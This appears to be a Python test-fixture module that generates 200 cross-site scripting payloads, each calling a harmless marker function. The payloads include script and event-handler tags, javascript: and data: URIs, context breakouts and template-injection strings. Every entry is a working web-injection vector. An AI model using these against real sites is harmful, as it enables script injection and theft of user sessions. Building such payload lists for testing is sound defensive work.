"""Texts that try to run as script where a page is careless: 200 of them, each would call ``pwned(n)``."""

from __future__ import annotations

from itertools import islice, product

CODE = "pwned({n})"
ELEMENTS = [
    "<script>{c}</script>", "<img src=x onerror={c}>", "<svg onload={c}>", "<svg><script>{c}</script></svg>", "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<body onload={c}>", "<details open ontoggle={c}>", "<input autofocus onfocus={c}>", "<video><source onerror={c}></video>", "<a href='javascript:{c}'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>", "<marquee onstart={c}>", "<object data='javascript:{c}'>", "<embed src='javascript:{c}'>",
    "<style>@import 'data:text/css,*{{}}';</style><img src=x onerror={c}>", "<template><script>{c}</script></template>", "<button onclick={c} autofocus>",
]  # fmt: skip
BREAKOUTS = ["", "</script>", "'>", '">', "-->", "]]>", "</textarea>", "</title>", "</style>", "\u2028", "{{{{7*7}}}}", "${{{c}}}", "\\u003c/script>"]
BARE = ["javascript:{c}", "data:text/html,<script>{c}</script>", "vbscript:{c}", "'-{c}-'", '"-{c}-"', "`${{{c}}}`", "{{%print({c})%}}", "\0<script>{c}</script>", "\u202e<script>{c}</script>"]


def payloads(n: int = 200) -> list[str]:
    made = [b + e for e, b in product(ELEMENTS, BREAKOUTS)]
    patterns = [*BARE, *islice(made, n - len(BARE))]
    return [pattern.format(c=CODE.format(n=i)) for i, pattern in enumerate(patterns)]
